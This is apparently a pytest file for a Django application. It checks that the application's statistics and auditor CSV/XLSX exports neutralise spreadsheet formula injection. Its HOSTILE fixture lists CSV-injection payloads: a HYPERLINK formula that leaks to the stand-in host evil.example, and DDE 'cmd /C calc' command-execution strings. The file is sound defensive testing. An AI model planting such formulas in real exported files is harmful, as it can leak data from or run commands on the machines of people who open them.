"""No export hands a spreadsheet a formula: CSV cells are neutralised, workbook cells are text.

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return (also after spaces) is
what a spreadsheet runs as a formula (OWASP's CSV injection). Every CSV of the project is
written by nas.audit.exports.csv_text and every workbook by nas.reporting.render, which the
first test checks in the source; the others send hostile values through each export a user
can download: the statistics (CSV and XLSX) and the auditor's two exports. (The subject-access
package is JSON and PDF, which no spreadsheet opens; nas/audit/tests/test_subject_access.py
checks its values cannot inject markup.)
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook  # type: ignore[import-untyped]

from nas.audit.exports import looks_like_formula
from nas.audit.services import audit_log
from nas.common import testing
from nas.common.testing import sign_in_verified
from nas.referrals.models import ReferrerType

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak","Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
)
NUMBER = re.compile(r"-?\d+(\.\d+)?")
NAS = Path(__file__).resolve().parents[2]
CSV_WRITER = "nas/audit/exports.py"
WORKBOOK_WRITER = "nas/reporting/render.py"


def assert_no_cell_runs(rows: list[list[str]]) -> int:
    """Assert no CSV cell would run as a formula; return how many were neutralised."""
    neutralised = 0
    for row in rows:
        for cell in row:
            if cell.startswith("'") and looks_like_formula(cell[1:]):
                neutralised += 1
            else:
                assert not looks_like_formula(cell) or NUMBER.fullmatch(cell), repr(cell)
    return neutralised


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:500]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _source_files() -> list[tuple[str, str]]:
    return [
        (str(path.relative_to(NAS.parent)), path.read_text())
        for path in sorted(NAS.rglob("*.py"))
        if "tests" not in path.parts and "migrations" not in path.parts
    ]


def test_every_csv_and_workbook_is_written_by_the_safe_writers():
    csv_writers = {
        name for name, text in _source_files() if re.search(r"csv\.(Dict)?[Ww]riter\b", text)
    }
    workbooks = {name for name, text in _source_files() if re.search(r"\bWorkbook\(", text)}

    assert csv_writers == {CSV_WRITER}
    assert workbooks == {WORKBOOK_WRITER}


# --- the statistics ---------------------------------------------------------------------


@pytest.fixture
def hostile_labels(db):
    """Every referrer type labelled with a formula (administrators edit reference lists);
    referrals of 2025 from each, so that each label is a row of the tables."""
    types = list(ReferrerType.objects.order_by("code"))
    assert len(types) >= len(HOSTILE)
    for index, referrer_type in enumerate(types):
        label = HOSTILE[index % len(HOSTILE)]
        ReferrerType.objects.filter(pk=referrer_type.pk).update(
            label_en=label, label_fi=label, label_sv=label
        )
        for day in range(1, 4):
            referral = testing.make_referral(
                received=dt.date(2025, 3, day), referrer=referrer_type.code, assess=True
            )
            testing.decide_positive(referral, date=dt.date(2025, 4, day))
    return types


@pytest.fixture
def statistician_client(client, db):
    sign_in_verified(client, testing.make_statistician())
    return client


def _download(client, file_format: str, language: str = "en"):
    query = f"?kind=year&year=2025&format={file_format}&lang={language}"
    return client.get(reverse("reporting:download") + query)


@pytest.mark.parametrize("language", ["en", "fi", "sv"])
def test_the_statistics_workbook_keeps_formula_like_labels_as_quote_prefixed_text(
    statistician_client, hostile_labels, language
):
    response = _download(statistician_client, "xlsx", language)
    assert response.status_code == 200
    content = response.content

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    found = set()
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                    if looks_like_formula(cell.value):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                        found.add(cell.value)
    # openpyxl reads a carriage return back as a line feed.
    assert {value.replace("\r", "\n") for value in HOSTILE} <= found


def test_the_statistics_csv_has_no_cell_a_spreadsheet_would_run(
    statistician_client, hostile_labels
):
    rows = csv_rows(_download(statistician_client, "csv"))

    assert rows[0] == ["key", "value"] and len(rows) > 10
    assert_no_cell_runs(rows)


# --- the auditor's exports --------------------------------------------------------------


@pytest.fixture
def auditor_client(client, db):
    auditor = testing.make_auditor()
    sign_in_verified(client, auditor)
    return client


def _export(client, url_name: str, **data: str):
    data.setdefault("purpose", "Access request 2025/17")
    data.setdefault("format", "csv")
    return client.post(reverse(url_name), data)


def test_the_export_of_who_accessed_a_person_neutralises_every_formula_start(auditor_client):
    person = testing.make_person(acting_user=testing.make_caseworker())
    for value in HOSTILE:
        audit_log(actor=value, kind="read", action=value, person_id=person.pk)

    rows = csv_rows(_export(auditor_client, "audit:person_access_export", person=person.ref))

    users = {row[1] for row in rows[1:]}
    assert {"'" + value for value in HOSTILE} <= users
    assert assert_no_cell_runs(rows) >= 2 * len(HOSTILE)


@pytest.mark.parametrize("username", ["-2+3", "+cmd", "@evil"])
def test_the_export_of_what_a_user_accessed_neutralises_every_formula_start(
    auditor_client, username
):
    # Django's usernames may start with "-", "+" and "@".
    user = testing.make_caseworker(username=username)
    person = testing.make_person(acting_user=user)
    for value in HOSTILE:
        audit_log(actor=user, kind="read", action=value, target=person, person_id=person.pk)

    rows = csv_rows(_export(auditor_client, "audit:user_activity_export", username=username))

    actions = {row[2] for row in rows[1:]}
    assert {"'" + value for value in HOSTILE} <= actions
    assert assert_no_cell_runs(rows) >= len(HOSTILE)
